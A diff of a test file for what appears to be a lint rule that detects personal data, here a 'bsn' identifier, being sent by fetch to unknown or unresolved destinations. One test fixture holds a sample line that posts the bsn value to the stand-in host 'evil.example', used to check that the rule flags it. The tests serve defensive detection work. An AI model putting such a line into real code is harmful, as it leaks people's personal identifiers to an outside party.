@@ -42,9 +42,12 @@ describe('flow: transfer end to end (fetch)', () => {
     const unknown = "export function f(bsn: string) { return fetch('https://evil.example/x', { body: bsn }); }";
     assert.deepEqual(brief(run(unknown, { rules: [...T] })), ['no-unauthorised-transfer:unknownDestination:bsn@bsn']);
     assert.deepEqual(brief(run(unknown, { rules: [...T], ruleOptions: { 'no-unauthorised-transfer': { reportUnknownDestinations: false } } })), []);
-    const unresolved = 'export function f(bsn: string, url: string) { return fetch(url, { body: bsn }); }';
+    const unresolved = 'declare const url: string;\nexport function f(bsn: string) { return fetch(url, { body: bsn }); }';
     assert.deepEqual(brief(run(unresolved, { rules: [...T] })), []);
     assert.deepEqual(brief(run(unresolved, { rules: [...T], ruleOptions: { 'no-unauthorised-transfer': { reportUnresolvedDestinations: true } } })), ['no-unauthorised-transfer:unresolvedDestination:bsn@bsn']);
+    // A URL parameter no call in the file gives a value: the caller decides where the data goes, not this function.
+    const open = 'export function f(bsn: string, url: string) { return fetch(url, { body: bsn }); }';
+    assert.deepEqual(brief(run(open, { rules: [...T], ruleOptions: { 'no-unauthorised-transfer': { reportUnresolvedDestinations: true } } })), []);
   });
 
   it('a cancelled run returns what it has and is not cached: the next run sees every flow', () => {
